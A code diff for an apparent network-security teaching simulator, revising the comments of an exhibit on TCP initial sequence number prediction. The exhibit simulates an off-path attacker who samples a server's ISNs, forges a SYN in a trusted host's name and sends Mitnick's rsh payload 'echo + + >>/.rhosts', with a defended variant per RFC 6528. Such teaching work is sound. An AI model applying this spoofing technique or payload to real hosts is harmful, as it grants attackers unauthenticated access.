@@ -3,7 +3,8 @@ import Simulator
 import TCPSim
 import Trace
 
-/// A stranger opens a connection in a friend's name: she predicts the initial sequence number that she does not see (Morris 1985).
+/// An attacker off the path opens a connection in a trusted host's name: she predicts the server's initial sequence number, which she
+/// does not see (Morris 1985).
 enum ISNPrediction: Exhibit {
     static let card = Card(
         "isn-prediction", in: .tcp, from: .offPath, to: .impersonate, variants: ["counted", "clock", "constant"],
@@ -13,16 +14,17 @@ enum ISNPrediction: Exhibit {
 
     private static let server = Socket(.server, 514)
     private static let trusted = Socket(.client, 1_023)
-    /// How many connections others open in a second, and the time from her last sample to her forged SYN.
+    /// How many connections others open in a second, and the time from the SYN of her last sample to her forged SYN.
     private static let (rate, gap) = (50, TimeSpan.milliseconds(200))
-    /// A datagram takes up to so many microseconds longer to the server in the variant of the clock.
+    /// In the variant "clock" a datagram to the server takes longer than the latency, by less than this many microseconds.
     private static let jitter = 4_000
-    /// 4.2BSD's counter grows by so much with each connection.
+    /// By how much 4.2BSD's counter of initial sequence numbers grows with each connection.
     static let step = 64_000
-    /// What the service of that port hears: no second connection, a user, a user, a command (Mitnick's of 1994).
+    /// What a client of the rsh service sends: the port for errors ("0": none), the user's name on the client, the user's name on the
+    /// server, and the command (that of Mitnick's attack of 1994).
     private static let payload = Array("0\0root\0root\0echo + + >>/.rhosts\0".utf8)
 
-    /// What she knows of a connection of her own: the server's number, and when it was chosen.
+    /// What she learns from a connection of her own: the server's initial sequence number, and when the server chose it, in microseconds.
     private struct Sample {
         let number: SequenceNumber
         let at: Int64
@@ -61,7 +63,7 @@ enum ISNPrediction: Exhibit {
             ISNPredictionNote.samples(samples.map(\.number), show.variant), frames: [1, attacker.frame()],
             cite: .rfc(9293, "3.4.1"))
 
-        let guesses = guesses(show.variant, samples, attacker)
+        let guesses = guesses(for: show.variant, from: samples, by: attacker)
         let syn = Segment(
             sourcePort: trusted.port, destinationPort: server.port, sequence: SequenceNumber(attacker.random.word()),
             control: .syn, window: 4_096)
@@ -76,7 +78,7 @@ enum ISNPrediction: Exhibit {
                 acknowledgment: guess + 1, control: [.ack, .psh], window: 4_096, payload: payload)
             attacker.send(acknowledgment, from: trusted.address, to: server.address, ISNPredictionNote.guess)
             outcome.tries += 1
-            // The run looks for her whether the command was obeyed.
+            // She cannot see whether the command was obeyed. The run looks for her after each ACK.
             _ = attacker.wait(.milliseconds(15))
             if isObeyed(on: stage, shell) { break }
         }
@@ -89,7 +91,7 @@ enum ISNPrediction: Exhibit {
         outcome.say(
             outcome.reached ? ISNPredictionNote.obeyed(after: outcome.tries) : .denied, frames: [attacker.frame()],
             cite: .rfc(6528, "3"))
-        outcome.connections = Set([0, 1, 2, deciding])
+        outcome.connections = [0, 1, 2, deciding]
         outcome.reproduce = [
             "tshark -r FILE -Y 'tcp.flags.syn==1 && tcp.flags.ack==1' -T fields -e frame.interface_name -e frame.time_relative -e ip.dst -e tcp.seq_raw",
             "tshark -r FILE -Y 'frame.interface_name==\"forged\" && tcp.len>0' -T fields -e tcp.ack_raw | tail -n 1",
@@ -97,11 +99,11 @@ enum ISNPrediction: Exhibit {
         return outcome
     }
 
-    /// The host with the service that trusts an address.
+    /// The host whose service trusts the address of one client.
     private static func service(_ show: Performance, _ draws: inout SeededRandomSource) -> StageHost {
         var configuration = show.tcp("server")
         let (connections, constant) = (draws.number(below: 1 << 16), draws.word())
-        // Half of the rule: F is there, and hashes nothing of the other side.
+        // Half of the rule: F is added to the clock, but it does not hash the client's socket.
         if show.isHalf { configuration.isn = .generatedForAll(secret: configuration.isn.secret) }
         if !show.isDefended {
             switch show.variant {
@@ -140,7 +142,7 @@ enum ISNPrediction: Exhibit {
 
     // MARK: What she does
 
-    /// Opens a connection of her own and drops it as soon as she has the server's number.
+    /// Opens a connection of her own and resets it as soon as she has the server's number; nil if no SYN,ACK comes.
     private static func sample(_ attacker: Attacker) -> Sample? {
         let line = attacker.open(to: server)
         let answer = attacker.wait(.seconds(1)) { $0.segment.control.contains([.syn, .ack]) }
@@ -148,18 +150,23 @@ enum ISNPrediction: Exhibit {
         return answer.map { Sample(number: $0.segment.sequence, at: $0.at) }
     }
 
-    /// Chooses the moment of the forged SYN, waits for it, and says which numbers the server may answer it with, the likeliest first.
-    private static func guesses(_ variant: String, _ samples: [Sample], _ attacker: Attacker) -> [SequenceNumber] {
+    /// Chooses the moment of the forged SYN and waits for it.
+    ///
+    /// - Returns: the initial sequence numbers with which the server may answer the SYN, in ascending order.
+    private static func guesses(
+        for variant: String, from samples: [Sample], by attacker: Attacker
+    ) -> [SequenceNumber] {
         guard let last = samples.last else { return [] }
         let sent = last.at - latency
         switch variant {
         case "clock":
-            // A sample at the time t says that the server's clock stood between 4·ISN and 4·ISN + 3: the largest difference is the best.
+            // When a number was chosen, the server's clock stood from 4·ISN to 4·ISN + 3. So each difference 4·ISN - t is a lower bound of
+            // how far the server's clock is ahead, and the largest is the best.
             let ahead = samples.map { Int64($0.number.rawValue) * 4 - $0.at }.max() ?? 0
             _ = attacker.wait(.milliseconds(50))
-            // The earliest arrival is to be the beginning of a tick.
-            let odd = (attacker.now.microseconds + latency + ahead) % 4
-            _ = attacker.wait(.microseconds((8 - odd) % 4))
+            // She waits until the SYN can arrive at the beginning of a tick at the earliest.
+            let phase = (attacker.now.microseconds + latency + ahead) % 4
+            _ = attacker.wait(.microseconds((8 - phase) % 4))
             let earliest = (attacker.now.microseconds + latency + ahead) / 4
             return (0...Int64(jitter / 4)).map { SequenceNumber(UInt32(truncatingIfNeeded: earliest + $0)) }
         case "constant": return [last.number]
